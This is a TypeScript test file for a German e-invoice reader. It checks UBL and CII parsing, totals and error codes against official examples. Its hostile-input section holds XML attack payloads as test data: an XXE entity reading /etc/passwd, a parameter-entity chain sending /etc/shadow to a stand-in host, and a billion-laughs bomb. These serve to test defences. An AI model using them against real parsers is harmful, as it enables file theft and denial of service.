import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { add, dec, sub, toFixedString } from "@kontor/domain/money/decimal";
import { describe, expect, it } from "vitest";
import { ERECHNUNG_MAX_BYTES, ErechnungLesefehler, rechnungLesen, type TLesefehlerCode } from "./lesen.ts";
import { PEPPOL_PROZESS, type Rechnung, SPEZIFIKATION } from "./modell.ts";
import { EINVOICE_TESTDATA } from "./offiziell.testing.ts";

/** The reader against the official examples (read from ../shared, never copied) and against hostile input. */
const ORDNER = path.join(EINVOICE_TESTDATA, "examples");
const beispiel = (datei: string) => readFileSync(path.join(ORDNER, datei), "utf8");
const UBL_BEISPIELE = readdirSync(ORDNER).filter((d) => d.endsWith(".xml") && !d.startsWith("ebinterface"));

const UBL_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2";

const summe = (betraege: readonly string[]) =>
  toFixedString(
    betraege.reduce((s, b) => add(s, dec(b)), dec("0")),
    2,
  );

/** Every string in the model, with its path. */
function alleTexte(wert: unknown, pfad = "rechnung"): [string, string][] {
  if (typeof wert === "string") return [[pfad, wert]];
  if (Array.isArray(wert)) return wert.flatMap((w, i) => alleTexte(w, `${pfad}[${i}]`));
  if (wert && typeof wert === "object")
    return Object.entries(wert).flatMap(([k, w]) => alleTexte(w, `${pfad}.${k}`));
  return [];
}

/** Every property present with the value undefined (optional terms must be absent instead). */
function undefinierte(wert: unknown, pfad = "rechnung"): string[] {
  if (Array.isArray(wert)) return wert.flatMap((w, i) => undefinierte(w, `${pfad}[${i}]`));
  if (wert && typeof wert === "object")
    return Object.entries(wert).flatMap(([k, w]) =>
      w === undefined ? [`${pfad}.${k}`] : undefinierte(w, `${pfad}.${k}`),
    );
  return [];
}

/** The refusal of `eingabe`: its code, details and message, and how long the reader took. */
function abgelehnt(eingabe: string | Uint8Array): { fehler: ErechnungLesefehler; ms: number } {
  const start = performance.now();
  try {
    rechnungLesen(eingabe);
  } catch (fehler) {
    const ms = performance.now() - start;
    if (fehler instanceof ErechnungLesefehler) return { fehler, ms };
    throw fehler;
  }
  throw new Error("not refused");
}

function erwarteAblehnung(eingabe: string | Uint8Array, code: TLesefehlerCode, geheim?: string) {
  const { fehler, ms } = abgelehnt(eingabe);
  expect(fehler.code).toBe(code);
  expect(fehler.name).toBe("ErechnungLesefehler");
  // Quickly: nothing is expanded, fetched or parsed at length.
  expect(ms).toBeLessThan(500);
  if (geheim) {
    expect(fehler.message).not.toContain(geheim);
    expect(JSON.stringify(fehler.details)).not.toContain(geheim);
  }
  return fehler;
}

describe("official examples", () => {
  it.each(UBL_BEISPIELE)("%s reads without error, consistent and without empty terms", (datei) => {
    const { syntax, rechnung } = rechnungLesen(beispiel(datei));
    expect(syntax).toBe(/CII|uncefact/.test(datei) ? "cii" : "ubl");
    expect(rechnung.positionen.length).toBeGreaterThan(0);
    expect(rechnung.steuern.length).toBeGreaterThan(0);
    // Optional terms are absent, never "" and never present as undefined.
    expect(alleTexte(rechnung).filter(([, t]) => t.trim() === "")).toEqual([]);
    expect(undefinierte(rechnung)).toEqual([]);
    // Money has exactly two decimals.
    const { summen } = rechnung;
    for (const betrag of [
      ...Object.values(summen),
      ...rechnung.positionen.map((p) => p.netto),
      ...rechnung.steuern.flatMap((s) => [s.basis, s.betrag]),
      ...rechnung.abschlaege.map((a) => a.betrag),
    ])
      expect(betrag).toMatch(/^-?\d+\.\d{2}$/);
    // The sums the files state hold in the model too (charges read as negative allowances): BR-CO-10, -11/-12,
    // -13, -14, -16.
    expect(summe(rechnung.positionen.map((p) => p.netto))).toBe(summen.positionen);
    if (summen.abschlaege !== undefined)
      expect(summe(rechnung.abschlaege.map((a) => a.betrag))).toBe(summen.abschlaege);
    expect(toFixedString(sub(dec(summen.positionen), dec(summen.abschlaege ?? "0")), 2)).toBe(summen.netto);
    expect(summe(rechnung.steuern.map((s) => s.betrag))).toBe(summen.steuer);
    expect(summe([summen.netto, summen.steuer])).toBe(summen.brutto);
    expect(summe([summen.brutto, `-${summen.vorausbezahlt ?? "0"}`, summen.rundung ?? "0"])).toBe(
      summen.zahlbar,
    );
  });

  it("UBL example 1: header, parties, lines, VAT breakdown, totals", () => {
    const { rechnung } = rechnungLesen(beispiel("cen-ubl-tc434-example1.xml"));
    expect(rechnung).toMatchObject({
      nummer: "12115118",
      datum: "2015-01-09",
      art: "380",
      waehrung: "EUR",
      spezifikation: SPEZIFIKATION.en16931,
      verkaeufer: {
        name: "De Koksmaat",
        uid: "NL8200.98.395.B.01",
        registernummer: "57151520",
        adresse: { zeile1: "Postbus 7l", ort: "Velsen-Noord", plz: "1950 AB", land: "NL" },
      },
      kaeufer: { name: "ODIN 59", kennung: "10202", kontakt: { name: "Dhr. J BLOKKER" } },
      zahlung: {
        artCode: "30",
        verwendungszweck: "Deb. 10202 / Fact. 12115118",
        // The first of two payment means; the IBAN without its print grouping.
        konto: { iban: "NL57RABO0107307510" },
        faelligAm: "2015-01-09",
      },
      abschlaege: [],
    });
    expect(rechnung.verkaeufer.uid).toBe("NL8200.98.395.B.01");
    expect(rechnung.kaeufer.uid).toBeUndefined();
    expect(rechnung.kaeuferReferenz).toBeUndefined();
    expect(rechnung.positionen).toHaveLength(20);
    expect(rechnung.positionen[0]).toEqual({
      id: "1",
      menge: "2",
      einheit: "EA",
      netto: "19.90",
      preis: "9.95",
      kategorie: "S",
      satz: "6.00",
      name: "PATAT FRITES 10MM 10KG",
      artikelNummer: "166022",
    });
    expect(rechnung.positionen[19]).toMatchObject({ id: "20", menge: "6", netto: "-109.98", preis: "18.33" });
    expect(rechnung.positionen[13]).toMatchObject({ name: "KRAT BIER", satz: "21.00", netto: "10.80" });
    expect(rechnung.steuern).toEqual([
      { basis: "183.23", betrag: "10.99", kategorie: "S", satz: "6.00" },
      { basis: "46.37", betrag: "9.74", kategorie: "S", satz: "21.00" },
    ]);
    expect(rechnung.summen).toEqual({
      positionen: "229.60",
      netto: "229.60",
      steuer: "20.73",
      brutto: "250.33",
      zahlbar: "250.33",
    });
  });

  it("CII example 1: the same invoice, amounts like 19.9 as 19.90", () => {
    const { syntax, rechnung } = rechnungLesen(beispiel("cen-CII_example1.xml"));
    expect(syntax).toBe("cii");
    expect(rechnung.positionen[0]).toMatchObject({
      netto: "19.90",
      einheit: "H87",
      menge: "2",
      preis: "9.95",
    });
    expect(rechnung.notizen).toEqual([expect.stringMatching(/^#AAR#Alle leveringen zijn franco\./)]);
    const ubl = rechnungLesen(beispiel("cen-ubl-tc434-example1.xml")).rechnung;
    expect(rechnung.summen).toEqual(ubl.summen);
    expect(rechnung.steuern).toEqual(ubl.steuern);
    expect(rechnung.positionen.map((p) => [p.id, p.netto, p.satz])).toEqual(
      ubl.positionen.map((p) => [p.id, p.netto, p.satz]),
    );
    expect(rechnung.verkaeufer).toEqual(ubl.verkaeufer);
    expect(rechnung.zahlung).toEqual(ubl.zahlung);
  });

  it("UBL example 2: allowances and charges, prepaid amount, delivery, period, line values", () => {
    const { rechnung } = rechnungLesen(beispiel("cen-ubl-tc434-example2.xml"));
    expect(rechnung).toMatchObject({
      nummer: "TOSL108",
      datum: "2013-06-30",
      waehrung: "NOK",
      bestellReferenz: "123",
      notizen: ["Ordered in our booth at the convention"],
      zeitraum: { von: "2013-06-01", bis: "2013-06-30" },
      lieferung: {
        datum: "2013-06-15",
        adresse: {
          zeile1: "Deliverystreet 2",
          zeile2: "Side door",
          ort: "DeliveryCity",
          plz: "523427",
          land: "NO",
        },
      },
      verkaeufer: {
        name: "Salescompany ltd.",
        kennung: "1238764941386",
        uid: "NO123456789MVA",
        kontakt: { name: "Antonio Salesmacher", telefon: "46211230", email: "antonio@salescompany.no" },
      },
      kaeufer: { name: "The Buyercompany", uid: "NO987654321MVA", registernummer: "987654321" },
      zahlung: {
        artCode: "30",
        konto: { iban: "NO9386011117947", bic: "DNBANOKK" },
        faelligAm: "2013-07-20",
      },
    });
    // BG-21 (freight) as a negative allowance; BT-107 − BT-108 = 0.
    expect(rechnung.abschlaege).toEqual([
      { betrag: "100.00", kategorie: "S", satz: "25.00", grund: "Promotion discount", grundCode: "88" },
      { betrag: "-100.00", kategorie: "S", satz: "25.00", grund: "Freight" },
    ]);
    expect(rechnung.summen).toEqual({
      positionen: "1436.50",
      abschlaege: "0.00",
      netto: "1436.50",
      steuer: "365.28",
      brutto: "1801.78",
      vorausbezahlt: "1000.00",
      zahlbar: "801.78",
    });
    expect(rechnung.positionen).toHaveLength(5);
    // A line allowance of 12 and a charge of 12, folded into one.
    expect(rechnung.positionen[0]).toEqual({
      id: "1",
      notiz: "Scratch on box",
      menge: "2",
      einheit: "EA",
      netto: "1273.00",
      preis: "1273.00",
      preisBasisMenge: "1",
      abschlag: { betrag: "0.00", grund: "Damage; Testing" },
      kategorie: "S",
      satz: "25.00",
      name: "Laptop computer",
      beschreibung: "Processor: Intel Core 2 Duo SU9400 LV (1.4GHz). RAM: 3MB. Screen 1440x900",
      artikelNummer: "JB007",
    });
    expect(rechnung.positionen[1]).toMatchObject({ menge: "-1", netto: "-3.96", preis: "3.96" });
    expect(rechnung.positionen[4]).toMatchObject({
      menge: "250",
      einheit: "MTR",
      preis: "0.75",
      netto: "187.50",
    });
    expect(rechnung.steuern[2]).toEqual({
      basis: "-25.00",
      betrag: "0.00",
      kategorie: "E",
      satz: "0.00",
      befreiungsGrund: "Exempt New Means of Transport",
    });
  });

  it("CII example 2 and the business example: the same totals, breakdown and allowances as the UBL one", () => {
    const ubl = rechnungLesen(beispiel("cen-ubl-tc434-example2.xml")).rechnung;
    const cii = rechnungLesen(beispiel("cen-CII_example2.xml")).rechnung;
    expect(rechnungLesen(beispiel("cen-CII_business_example_01.xml")).rechnung).toEqual(cii);
    expect(cii.summen).toEqual(ubl.summen);
    expect(cii.steuern).toEqual(ubl.steuern);
    expect(cii.lieferung).toEqual(ubl.lieferung);
    expect(cii.zeitraum).toEqual(ubl.zeitraum);
    expect(cii.zahlung).toEqual({ ...ubl.zahlung, bedingungen: expect.stringMatching(/^2 % discount/) });
    // The CII file codes the discount as 95, the UBL one as 88.
    expect(cii.abschlaege).toEqual([{ ...ubl.abschlaege[0], grundCode: "95" }, ubl.abschlaege[1]]);
    expect(cii.positionen[0]).toMatchObject({
      menge: "1",
      einheit: "NAR",
      preis: "1273",
      abschlag: { betrag: "0.00", grund: "Damage; Testing" },
    });
  });

  it("UBL credit note: type 381, positive amounts, no preceding invoice in the file (BT-25 absent)", () => {
    const { syntax, rechnung } = rechnungLesen(beispiel("cen-ubl-tc434-creditnote1.xml"));
    expect(syntax).toBe("ubl");
    expect(rechnung).toMatchObject({
      nummer: "018304 / 28865",
      datum: "2019-09-23",
      art: "381",
      prozess: PEPPOL_PROZESS,
      kaeuferReferenz: "018304 / 28865",
      zeitraum: { von: "2019-02-01", bis: "2019-02-28" },
      verkaeufer: {
        name: "My Supplier Company",
        handelsname: "My Supplier Company N.V.",
        uid: "BE0000000196",
        elektronischeAdresse: { schema: "0201", wert: "0000000196" },
        kontakt: { email: "john.doole@mysuppliercompany.be" },
      },
      kaeufer: { name: "My Customer Company", elektronischeAdresse: { schema: "0201", wert: "0000000295" } },
      zahlung: {
        artCode: "1",
        verwendungszweck: "010676609538",
        konto: { iban: "BE91000000143476", bic: "BPOTBEB1" },
      },
      summen: { positionen: "100.11", netto: "100.11", steuer: "0.00", brutto: "100.11", zahlbar: "100.11" },
    });
    expect(rechnung.vorgaenger).toBeUndefined();
    expect(rechnung.positionen).toEqual([
      {
        id: "1",
        menge: "1.00",
        einheit: "C62",
        netto: "100.11",
        preis: "100.11",
        kategorie: "E",
        satz: "0.00",
        name: "Exonération du versement du PP",
        beschreibung: "Exonération du versement du PP",
        artikelNummer: "V55",
      },
    ]);
    expect(rechnung.steuern).toEqual([
      {
        basis: "100.11",
        betrag: "0.00",
        kategorie: "E",
        satz: "0.00",
        befreiungsGrund: "Taxes are not applicable",
      },
    ]);
  });

  it("BT-25 / BT-26 of a credit note that names the invoice it corrects (UBL and CII)", () => {
    const ubl = beispiel("cen-ubl-tc434-creditnote1.xml").replace(
      "<cac:AccountingSupplierParty>",
      "<cac:BillingReference><cac:InvoiceDocumentReference><cbc:ID>R-2019-0815</cbc:ID>" +
        "<cbc:IssueDate>2019-08-31</cbc:IssueDate></cac:InvoiceDocumentReference></cac:BillingReference>" +
        "<cac:AccountingSupplierParty>",
    );
    expect(rechnungLesen(ubl).rechnung.vorgaenger).toEqual({ nummer: "R-2019-0815", datum: "2019-08-31" });
    const cii = beispiel("cen-CII_example1.xml")
      .replace("<ram:TypeCode>380</ram:TypeCode>", "<ram:TypeCode>381</ram:TypeCode>")
      .replace(
        /(<\/ram:SpecifiedTradeSettlementHeaderMonetarySummation>)/,
        '$1<ram:InvoiceReferencedDocument><ram:IssuerAssignedID>R-2015-4711</ram:IssuerAssignedID><ram:FormattedIssueDateTime><qdt:DateTimeString format="102">20141231</qdt:DateTimeString></ram:FormattedIssueDateTime></ram:InvoiceReferencedDocument>',
      );
    const gelesen = rechnungLesen(cii).rechnung;
    expect(gelesen.art).toBe("381");
    expect(gelesen.vorgaenger).toEqual({ nummer: "R-2015-4711", datum: "2014-12-31" });
  });

  it("XRechnung: BT-10 Leitweg-ID, BT-24, BT-23; UBL and CII read to the same model", () => {
    const ubl = rechnungLesen(beispiel("xrechnung-01.01a-INVOICE_ubl.xml"));
    const cii = rechnungLesen(beispiel("xrechnung-01.01a-INVOICE_uncefact.xml"));
    expect(ubl.syntax).toBe("ubl");
    expect(cii.syntax).toBe("cii");
    const r: Rechnung = ubl.rechnung;
    expect(r.kaeuferReferenz).toBe("04011000-12345-03");
    expect(r.spezifikation).toBe(SPEZIFIKATION.xrechnung);
    expect(r.prozess).toBe(PEPPOL_PROZESS);
    expect(r.notizen).toEqual([
      "#ADU#Es gelten unsere Allgem. Geschäftsbedingungen, die Sie unter […] finden.",
    ]);
    expect(r.verkaeufer).toEqual({
      name: "[Seller name]",
      handelsname: "[Seller trading name]",
      registernummer: "[HRA-Eintrag]",
      uid: "DE 123456789",
      elektronischeAdresse: { schema: "EM", wert: "seller@email.de" },
      adresse: { zeile1: "[Seller address line 1]", ort: "[Seller city]", plz: "12345", land: "DE" },
      kontakt: { name: "nicht vorhanden", telefon: "+49 1234-5678", email: "seller@email.de" },
    });
    expect(r.kaeufer).toMatchObject({
      kennung: "[Buyer identifier]",
      elektronischeAdresse: { schema: "EM", wert: "buyer@info.de" },
    });
    expect(r.zahlung).toEqual({
      artCode: "58",
      konto: { iban: "DE79000000001234567890" },
      bedingungen: "Zahlbar sofort ohne Abzug.",
    });
    expect(r.positionen.map((p) => [p.id, p.einheit, p.netto])).toEqual([
      ["Zeitschrift [...]", "XPP", "288.79"],
      ["Porto + Versandkosten", "XPP", "26.07"],
    ]);
    expect(r.positionen[0]?.notiz).toMatch(/^Die letzte Lieferung/);
    // "336.9" in the file.
    expect(r.summen).toEqual({
      positionen: "314.86",
      netto: "314.86",
      steuer: "22.04",
      brutto: "336.90",
      zahlbar: "336.90",
    });
    expect(cii.rechnung).toEqual(ubl.rechnung);
  });
});

describe("syntax details", () => {
  it("matches local names whatever the prefixes; the root's namespace decides", () => {
    const original = rechnungLesen(beispiel("cen-ubl-tc434-example1.xml")).rechnung;
    const umbenannt = beispiel("cen-ubl-tc434-example1.xml")
      .replace(`xmlns="${UBL_NS}"`, `xmlns:inv="${UBL_NS}"`)
      .replace("<Invoice ", "<inv:Invoice ")
      .replace("</Invoice>", "</inv:Invoice>")
      .replaceAll("cbc:", "b:")
      .replace("xmlns:cbc=", "xmlns:b=");
    expect(umbenannt).toContain("<inv:Invoice ");
    expect(umbenannt).toContain("<b:ID>");
    expect(rechnungLesen(umbenannt).rechnung).toEqual(original);

    const fremd = erwarteAblehnung(
      beispiel("cen-ubl-tc434-example1.xml").replace(`xmlns="${UBL_NS}"`, 'xmlns="urn:example:invoice"'),
      "unbekanntesFormat",
    );
    expect(fremd.details).toEqual({ wurzel: "Invoice", namespace: "urn:example:invoice" });
  });

  it("takes bytes: UTF-8, UTF-16 with a byte order mark, a declared ISO-8859-1", () => {
    const text = beispiel("cen-ubl-tc434-example1.xml");
    const erwartet = rechnungLesen(text).rechnung;
    expect(rechnungLesen(Buffer.from(text, "utf8")).rechnung).toEqual(erwartet);
    expect(rechnungLesen(new Uint8Array(Buffer.from(`\uFEFF${text}`, "utf8"))).rechnung).toEqual(erwartet);
    const utf16 = Buffer.from(`\uFEFF${text.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, "utf16le");
    expect(rechnungLesen(utf16).rechnung).toEqual(erwartet);
    const latin1 = Buffer.from(
      text.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace("De Koksmaat", "Müller"),
      "latin1",
    );
    expect(rechnungLesen(latin1).rechnung.verkaeufer.name).toBe("Müller");
    // The same bytes declared as UTF-8 are refused, not repaired.
    erwarteAblehnung(Buffer.from(text.replace("De Koksmaat", "Müller"), "latin1"), "keinXml");
  });

  it("decodes the predefined entities, character references and CDATA; refuses other entities", () => {
    const mit = (name: string) =>
      beispiel("cen-ubl-tc434-example1.xml").replace(
        "<cbc:RegistrationName>De Koksmaat</cbc:RegistrationName>",
        `<cbc:RegistrationName>${name}</cbc:RegistrationName>`,
      );
    expect(
      rechnungLesen(mit("M&#252;ller &amp; S&#xF6;hne<![CDATA[ & Co <KG>]]>")).rechnung.verkaeufer.name,
    ).toBe("Müller & Söhne & Co <KG>");
    erwarteAblehnung(mit("De&nbsp;Koksmaat"), "keinXml");
    erwarteAblehnung(mit("De &#0; Koksmaat"), "keinXml");
    erwarteAblehnung(mit("De & Koksmaat"), "keinXml");
  });

  it("lists missing mandatory terms by BT number", () => {
    const xml = beispiel("cen-ubl-tc434-example1.xml")
      .replace("<cbc:ID>12115118</cbc:ID>", "")
      .replace("<cbc:IssueDate>2015-01-09</cbc:IssueDate>", "")
      .replace("<cbc:RegistrationName>De Koksmaat</cbc:RegistrationName>", "")
      .replace('<cbc:LineExtensionAmount currencyID="EUR">19.90</cbc:LineExtensionAmount>', "");
    const fehler = erwarteAblehnung(xml, "unvollstaendig");
    expect(fehler.details.fehlend).toEqual(expect.arrayContaining(["BT-1", "BT-2", "BT-27", "BT-131"]));
    expect(fehler.details.fehlend).toHaveLength(4);
    expect(fehler.message).toContain("BT-131");
    const ohneZeilen = beispiel("xrechnung-01.01a-INVOICE_ubl.xml").replace(
      /<cac:InvoiceLine>[\s\S]*<\/cac:InvoiceLine>/,
      "",
    );
    expect(erwarteAblehnung(ohneZeilen, "unvollstaendig").details.fehlend).toEqual(["BG-25"]);
  });

  it("refuses invalid values instead of rounding or guessing", () => {
    const xml = beispiel("cen-ubl-tc434-example1.xml")
      .replace(">19.90<", ">19.905<")
      .replace("<cbc:IssueDate>2015-01-09</cbc:IssueDate>", "<cbc:IssueDate>2015-02-30</cbc:IssueDate>")
      .replace(">9.95</cbc:PriceAmount>", ">9,95</cbc:PriceAmount>")
      .replace("<cbc:ID>S</cbc:ID>", "<cbc:ID>X</cbc:ID>");
    const fehler = erwarteAblehnung(xml, "ungueltig");
    expect(fehler.details.ungueltig).toEqual(expect.arrayContaining(["BT-131", "BT-2", "BT-146", "BT-118"]));
    expect(fehler.message).not.toContain("19.905");
    erwarteAblehnung(beispiel("cen-ubl-tc434-example1.xml").replace(">250.33<", ">2.5033e2<"), "ungueltig");
  });

  it("refuses what the model cannot carry: other document types, a separate VAT currency", () => {
    const teilrechnung = erwarteAblehnung(
      beispiel("xrechnung-01.01a-INVOICE_ubl.xml").replace(">380<", ">326<"),
      "nichtUnterstuetzt",
    );
    expect(teilrechnung.details).toMatchObject({ nichtUnterstuetzt: ["BT-3"], artCode: "326" });
    const steuerwaehrung = erwarteAblehnung(
      beispiel("xrechnung-01.01a-INVOICE_ubl.xml").replace(
        "<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>",
        "<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode><cbc:TaxCurrencyCode>CHF</cbc:TaxCurrencyCode>",
      ),
      "nichtUnterstuetzt",
    );
    expect(steuerwaehrung.details.nichtUnterstuetzt).toEqual(["BT-6"]);
  });
});

describe("hostile input", () => {
  const GEHEIM = "GEHEIM-4711";

  it("refuses an external entity before parsing (nothing read from disk)", () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="${UBL_NS}" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&xxe;</cbc:ID>
</Invoice>`;
    erwarteAblehnung(xxe, "dtdVerboten", "passwd");
    // Also in lower case and with an internal subset only.
    erwarteAblehnung(xxe.replace("<!DOCTYPE", "<!doctype"), "dtdVerboten");
    erwarteAblehnung(
      `<!DOCTYPE Invoice SYSTEM "http://example.invalid/${GEHEIM}.dtd"><Invoice/>`,
      "dtdVerboten",
      GEHEIM,
    );
  });

  it("refuses parameter entities", () => {
    erwarteAblehnung(
      `<?xml version="1.0"?>
<!DOCTYPE Invoice [
  <!ENTITY % fern SYSTEM "http://example.invalid/${GEHEIM}.dtd">
  %fern;
  <!ENTITY % datei SYSTEM "file:///etc/shadow">
  <!ENTITY % auswertung "<!ENTITY &#x25; hinaus SYSTEM 'http://example.invalid/?%datei;'>">
  %auswertung;
]>
<Invoice xmlns="${UBL_NS}"/>`,
      "dtdVerboten",
      GEHEIM,
    );
  });

  it("refuses the billion laughs quickly", () => {
    let lol = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) lol += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    erwarteAblehnung(
      `<?xml version="1.0"?><!DOCTYPE lolz [${lol}]><Invoice xmlns="${UBL_NS}">&lol9;</Invoice>`,
      "dtdVerboten",
    );
    // Entity declarations without a DOCTYPE are not XML either, and refused the same way.
    erwarteAblehnung(`<Invoice xmlns="${UBL_NS}"><!ENTITY a "b"></Invoice>`, "dtdVerboten");
  });

  it("refuses a 50 MB file from its size, without parsing", () => {
    const grosserText = `<Invoice xmlns="${UBL_NS}">${"x".repeat(50 * 1024 * 1024)}</Invoice>`;
    const fehler = erwarteAblehnung(grosserText, "zuGross");
    expect(fehler.details.grenze).toBe(ERECHNUNG_MAX_BYTES);
    expect(erwarteAblehnung(new Uint8Array(50 * 1024 * 1024), "zuGross").details.bytes).toBe(
      50 * 1024 * 1024,
    );
    // Under the cap in characters, over it in UTF-8 bytes.
    erwarteAblehnung("ä".repeat(ERECHNUNG_MAX_BYTES / 2 + 1), "zuGross");
  });

  it("refuses what is not XML: text, JSON, empty input, a PDF, two roots, broken nesting", () => {
    erwarteAblehnung(`Das ist keine Rechnung ${GEHEIM}`, "keinXml", GEHEIM);
    erwarteAblehnung(JSON.stringify({ Invoice: { ID: GEHEIM } }), "keinXml", GEHEIM);
    erwarteAblehnung("", "keinXml");
    erwarteAblehnung("   \n", "keinXml");
    erwarteAblehnung(new Uint8Array(), "keinXml");
    expect(erwarteAblehnung(Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj"), "keinXml").details.erkannt).toBe("PDF");
    const ubl = beispiel("cen-ubl-tc434-example1.xml");
    erwarteAblehnung(`${ubl}<Invoice xmlns="${UBL_NS}"/>`, "keinXml");
    const falsch = erwarteAblehnung(ubl.replace("</cbc:CityName>", `</cbc:${GEHEIM}>`), "keinXml", GEHEIM);
    expect(falsch.details.zeile).toBeGreaterThan(1);
    erwarteAblehnung(ubl.replace("De Koksmaat", "De \u0001 Koksmaat"), "keinXml");
    // Deep nesting hits the parser's limit, no stack overflow.
    erwarteAblehnung(
      ubl.replace("</Invoice>", `${"<a>".repeat(20000)}${"</a>".repeat(20000)}</Invoice>`),
      "keinXml",
    );
  });

  it("names a UBL Order and an ebInterface invoice without importing them", () => {
    const bestellung = erwarteAblehnung(
      `<?xml version="1.0" encoding="UTF-8"?>
<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>${GEHEIM}</cbc:ID>
</Order>`,
      "unbekanntesFormat",
      GEHEIM,
    );
    expect(bestellung.details).toEqual({
      wurzel: "Order",
      namespace: "urn:oasis:names:specification:ubl:schema:xsd:Order-2",
      erkannt: "UBL Order",
    });
    expect(bestellung.message).toContain("Order");
    for (const datei of readdirSync(ORDNER).filter((d) => d.startsWith("ebinterface"))) {
      const eb = erwarteAblehnung(beispiel(datei), "unbekanntesFormat");
      expect(eb.details).toEqual({
        wurzel: "Invoice",
        namespace: "http://www.ebinterface.at/schema/6p1/",
        erkannt: "ebInterface 6.1",
      });
      expect(eb.message).not.toContain("ebinterface.at");
    }
  });
});
